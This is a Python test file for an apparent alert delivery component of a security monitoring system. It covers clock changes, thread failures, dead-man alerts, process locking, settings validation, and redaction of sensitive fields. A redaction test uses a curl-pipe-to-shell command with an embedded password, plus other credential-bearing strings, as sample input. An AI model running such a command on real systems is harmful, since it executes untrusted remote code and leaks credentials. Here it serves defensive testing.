"""Telling people over time: clocks that are put back, threads that cannot begin, an inventory that changes, limits."""

from __future__ import annotations

import json
import shutil
import signal
import smtplib
import subprocess
import sys
import threading
import time
from dataclasses import replace
from datetime import datetime, timedelta
from email.message import Message as EmailMessage
from pathlib import Path

import pytest

from soc.cases import CaseStore
from soc.delivery import Deliverer, ways
from soc.delivery.message import Message
from soc.delivery.settings import Channel, DeadMan, Heartbeat, Settings
from soc.errors import DatabaseError, DeliveryError
from tests.unit.pace import eventually
from tests.unit.soc.alert_factory import NOW, alert
from tests.unit.soc.delivery_servers import PASSWORD, Tls, mail_server, tls_of
from tests.unit.soc.engine_support import ROOT
from tests.unit.soc.test_delivery import Desk, mail_settings, message, secret, settings_of


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> Tls:
    return tls_of(tmp_path_factory.mktemp("tls"))


# ---- clocks, threads, the dead man


def test_what_waits_since_the_clock_was_ahead_goes_when_it_is_put_back(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    desk.now += timedelta(days=300)
    desk.sent.broken = True
    desk.raises(alert())
    desk.now -= timedelta(days=300)
    desk.turn()
    assert desk.queue.waiting("c", desk.now) == [], "tried, and waits for its pause as ever"
    desk.sent.broken = False
    desk.now += timedelta(minutes=1)
    desk.turn()
    assert len(desk.sent.messages) == 1


def test_a_channel_that_cannot_begin_now_begins_later(tmp_path: Path) -> None:
    desk, came = Desk(tmp_path), threading.Event()
    opened: list[int] = []

    def cases() -> CaseStore:
        opened.append(1)
        if len(opened) == 2:  # the first is the deliverer's own, the second the channel's
            raise DatabaseError("database is locked")
        return CaseStore(tmp_path)

    stop = threading.Event()
    settings = replace(desk.settings, channels={"c": desk.settings.channels["c"]})

    def send(channel: Channel, message: Message, data_dir: Path, at: datetime) -> None:
        came.set()

    def run() -> None:
        Deliverer(settings, cases, tmp_path, stop, send=send).run()

    thread = threading.Thread(target=run)
    thread.start()
    while len(opened) < 2 and thread.is_alive():
        stop.wait(0.01)
    desk.cases.deliver([alert()])
    try:
        assert came.wait(20)
    finally:
        stop.set()
        thread.join(20)


def test_what_is_being_sent_when_other_settings_come_is_not_sent_by_both(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = Desk(tmp_path)
    begun, goes_on, over = threading.Event(), threading.Event(), threading.Event()

    def send(channel: Channel, message: Message, data_dir: Path, at: datetime) -> None:
        begun.set()
        goes_on.wait(30)

    def run() -> None:
        made = Deliverer(desk.settings, lambda: CaseStore(tmp_path), tmp_path, threading.Event(), send=send)
        made.run(lambda: Settings() if begun.is_set() else None)
        over.set()

    monkeypatch.setattr(ways, "TIMEOUT_S", 0.1)
    thread = threading.Thread(target=run)
    thread.start()
    desk.cases.deliver([alert()])
    assert begun.wait(30)
    assert not over.wait(3)
    goes_on.set()
    assert over.wait(30)
    thread.join(30)
    assert desk.queue.counts() == {"c": {"sent": 1}}


def test_a_heartbeat_without_a_dead_man_stops_when_detection_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    beats: list[int] = []
    monkeypatch.setattr(ways, "beat", lambda *_: beats.append(1))
    desk = Desk(tmp_path)
    desk.settings = Settings(heartbeat=Heartbeat(url="https://localhost/", every=timedelta(minutes=1)))
    desk.open()
    for _ in range(10):
        desk.now += timedelta(minutes=1)
        desk.deliverer._tick()
    assert len(beats) == 1


def test_the_dead_man_does_not_storm_channels_that_fail(tmp_path: Path) -> None:
    desk = Desk(tmp_path, dead=DeadMan(to=("c",), after=timedelta(minutes=2), again=timedelta(hours=1)))
    tries: list[datetime] = []

    def send(channel: Channel, message: Message, data_dir: Path, at: datetime) -> None:
        tries.append(at)
        raise ways.SendError("the line is down")

    desk.sent = send  # type: ignore[assignment]
    desk.open()
    desk.now += timedelta(minutes=3)
    for _ in range(120):
        desk.now += timedelta(seconds=1)
        desk.deliverer.vigil.watch()
    assert len(tries) == 4


@pytest.mark.timeout(300)
def test_the_process_hears_of_a_new_site_and_is_alone(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    province, data = tmp_path / "province", tmp_path / "data"
    shutil.copytree(ROOT / "inventory/provinces/lab", province)
    (province / "delivery.yaml").write_text(
        "syslog: {s: {server: 127.0.0.1, port: 9, transport: udp}}\nroutes: {r: {to: [s], units: [thanh-hoa]}}"
    )
    command = [sys.executable, "-m", "canh", "--province", str(province), "--data", str(data), "deliver"]

    def started() -> subprocess.Popen[str]:
        process = subprocess.Popen(command, cwd=ROOT, stderr=subprocess.PIPE, text=True)
        request.addfinalizer(process.kill)
        return process

    def sent() -> int:
        said = json.loads((data / "stats/deliver.json").read_text())
        return int(said["channels"].get("s", {}).get("sent", 0))

    process, cases = started(), CaseStore(data)
    eventually((data / "stats/deliver.json").exists, "it said nothing")
    other = started()  # it waits: the supervisor stops everything for a child that cannot run
    assert other.stderr is not None
    assert "it waits: another delivery works on this data directory" in other.stderr.readline()
    other.send_signal(signal.SIGTERM)
    assert other.wait(60) == 0
    other.stderr.close()
    site = province / "sites/stc.yaml"
    site.write_text(site.read_text().replace("unit: stc\n", "unit: thanh-hoa\n"))
    made: list[int] = []

    def is_told() -> bool:
        """It looks at the inventory now and then."""
        made.append(1)
        cases.deliver([alert(nonce=str(len(made)), device=f"d{len(made)}", site="stc")])
        return sent() > 0

    eventually(is_told, "the inventory was not read again")
    process.send_signal(signal.SIGTERM)
    assert process.wait(60) == 0
    assert process.stderr is not None
    process.stderr.close()


def test_counting_a_month_of_rows_takes_little_of_the_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    desk, clock, counted = Desk(tmp_path), [1000.0], []

    def slow() -> dict[str, dict[str, int]]:
        clock[0] += 0.5
        counted.append(clock[0])
        return {"c": {"sent": len(counted)}}

    monkeypatch.setattr(time, "monotonic", lambda: clock[0])
    monkeypatch.setattr(desk.deliverer._queue, "counts", slow)
    for _ in range(100):
        desk.deliverer._say()
        clock[0] += 1
    assert len(counted) == 10
    assert json.loads((tmp_path / "stats/deliver.json").read_text())["channels"] == {"c": {"sent": 10}}


def test_a_server_may_look_at_a_mail_for_longer_than_it_may_take_to_answer(
    tmp_path: Path, tls: Tls, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Asked again it would have the mail twice, and each time we ask."""
    secret(tmp_path, "smtp", PASSWORD)
    waits: list[float | None] = []
    before = smtplib.SMTP.send_message

    def send_message(self: smtplib.SMTP, mail: EmailMessage) -> object:
        assert self.sock is not None
        waits.append(self.sock.gettimeout())
        return before(self, mail)

    monkeypatch.setattr(smtplib.SMTP, "send_message", send_message)
    with mail_server(tls) as box:
        ways.send(mail_settings(tmp_path, box.port, tls).channels["duty"], message(alert()), tmp_path, NOW)
    assert waits == [ways.WHOLE_S] and ways.WHOLE_S > ways.TIMEOUT_S


# ---- what may stand in the settings, and what leaves

CHANNEL = "syslog: {a: {server: localhost}}\n"
WRONG = {
    "names a zone": "routes: {r: {to: [a], quiet: {from: '22:00+07:00', to: '06:00'}}}",
    "outside 1s to 366d": "routes: {r: {to: [a], again_after: 999999d}}",
    "too often": "dead_man: {to: [a], again: 5s}",
    '"0s" is outside': "routes: {r: {to: [a], again_after: 0s}}",
}


@pytest.mark.parametrize("why", WRONG)
def test_settings_that_would_stop_or_storm_are_refused(tmp_path: Path, why: str) -> None:
    with pytest.raises(DeliveryError, match=why):
        settings_of(tmp_path, CHANNEL + WRONG[why])


def test_an_owner_may_have_as_long_a_name_as_an_inventory_takes(tmp_path: Path) -> None:
    owner = "trung-tam-cong-nghe-thong-tin-va-truyen-thong-so-khoa-hoc-va-cong-nghe-tinh"
    (route,) = settings_of(tmp_path, CHANNEL + f"routes: {{r: {{to: [a], owners: [{owner}]}}}}").routes
    assert route.owners == {owner}


@pytest.mark.parametrize(
    ("field", "value", "sent"),
    [
        ("process.command_line", "curl -u admin:S3cret http://x | sh", "curl …"),
        ("process.command_line", "PGPASSWORD=S3cret psql", "…"),
        ("process.command_line", "/usr/bin/id", "/usr/bin/id"),
        ("url.full", "https://a:S3cret@b/", "…"),
        ("url.full", "https://b/c?key=S3cret", "https://b/c …"),
        ("source.ip", "10.0.0.1", "10.0.0.1"),
    ],
)
def test_of_what_somebody_typed_only_the_first_word_leaves(field: str, value: str, sent: str) -> None:
    told = message(alert(group=((field, value),)))
    assert told.document["alerts"][0]["group"] == {field: sent}
    assert f"{field}: {sent}\n" in told.text
    assert "S3cret" not in str(told)
